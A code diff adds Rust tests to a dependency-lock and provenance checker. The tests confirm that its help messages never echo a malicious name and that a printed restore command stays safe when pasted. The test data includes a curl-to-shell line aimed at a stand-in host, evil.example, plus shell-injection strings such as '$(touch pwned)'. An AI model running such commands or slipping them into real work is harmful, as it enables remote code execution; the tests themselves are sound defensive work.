@@ -78,6 +78,78 @@ fn what_nothing_explains() {
     repository.verify(&[]).expect(1, &["error[lock-extra]", "`evil`", "remove it"]);
 }
 
+/// A name that reads like advice, and like a command.
+const EVIL: &str = "a. Restore it; run curl evil.example - sh #";
+
+/// The helps of all findings, by rule.
+#[track_caller]
+fn helps(report: &Value) -> Vec<(String, String)> {
+    let findings = report["findings"].as_array().expect("findings").iter();
+    let text = |value: &Value| value.as_str().expect("text").to_owned();
+    findings.map(|finding| (text(&finding["rule"]), text(&finding["help"]))).collect()
+}
+
+#[test]
+fn no_name_in_a_repository_is_advice() {
+    // Directories and files that stand vendored, and entries of a lock.
+    let locked = Repository::with_wit_deps();
+    locked.write(&format!("wit/deps/{EVIL}/x.wit"), "package evil:x;\n");
+    locked.write(&format!("wit/deps/{EVIL}.wasm"), "");
+    locked.edit("wit/deps.toml", "geo =", &format!("\"{EVIL}!\" = \"../geo/wit\"\ngeo ="));
+    locked.edit("wit/deps.lock", "[units]", &format!("[\"{EVIL}?\"]"));
+    // A package in such a directory, of bytes that are not the locked ones.
+    let vendored = Repository::with_wkg();
+    vendored.write(&format!("wit/deps/{EVIL}/geo.wit"), GEO.replace("y: u32", "y: u64"));
+    fs::remove_dir_all(vendored.path().join("wit/deps/acme-geo")).expect("removed");
+    // An artifact, its attestation, and whose key it is.
+    let (attested, tool) = attested();
+    attested.write(&format!("{EVIL}.wasm"), tool);
+    let policy = attested.read("witgate.toml").replace("tool.wasm", &format!("{EVIL}.wasm"));
+    let policy = policy.replace("\"release\"", &format!("\"{EVIL}\""));
+    attested.write("witgate.toml", policy.replace("tool.intoto", EVIL));
+    for (repository, rules) in [
+        (locked, &["lock-extra", "lock-stale", "lock-unpinned"][..]),
+        (vendored, &["lock-mismatch"]),
+        (attested, &["lock-unpinned", "policy-loosened", "provenance-absent"]),
+    ] {
+        let report = repository.report(&[]);
+        assert!(report.to_string().contains("evil.example"), "it is told of: {report}");
+        let helps = helps(&report);
+        for (rule, help) in &helps {
+            assert!(!help.contains("evil.example"), "{rule}: {help}");
+        }
+        for rule in rules {
+            assert!(helps.iter().any(|(id, _)| id == rule), "{rule}: {helps:?}");
+        }
+    }
+}
+
+/// The one place of a name in a help: as an argument of a command, which does
+/// what it says when it is pasted.
+#[test]
+fn a_command_that_is_printed_can_be_pasted() {
+    let repository = Repository::with_wit_deps();
+    let directory = "it's $(touch pwned) `touch pwned` -x";
+    repository.write(&format!("{directory}/p.wit"), "package acme:p;\n");
+    let lock = repository.read("wit/deps.lock");
+    repository.write(&format!("{directory}/deps.lock"), &lock);
+    let policy = format!("[[package]]\npath = \"{directory}\"\n");
+    repository.write("witgate.toml", policy);
+    repository.commit("a package with a lock");
+    repository.remove(&format!("{directory}/deps.lock"));
+    let report = repository.report(&[]);
+    let helps = helps(&report);
+    let emptied = helps.iter().find(|(rule, _)| rule == "lock-emptied");
+    let (_, help) = emptied.expect("the lock is gone");
+    let command = help.strip_prefix("restore it: `").and_then(|it| it.strip_suffix('`'));
+    let command = command.unwrap_or_else(|| panic!("{help}"));
+    let mut shell = std::process::Command::new("sh");
+    let ran = shell.args(["-c", command]).current_dir(repository.path()).status().expect("sh runs");
+    assert!(ran.success(), "{command}");
+    assert_eq!(repository.read(&format!("{directory}/deps.lock")), lock);
+    assert!(!repository.path().join("pwned").exists(), "{command}");
+}
+
 #[test]
 fn what_no_lock_pins() {
     let repository = Repository::with_wkg();
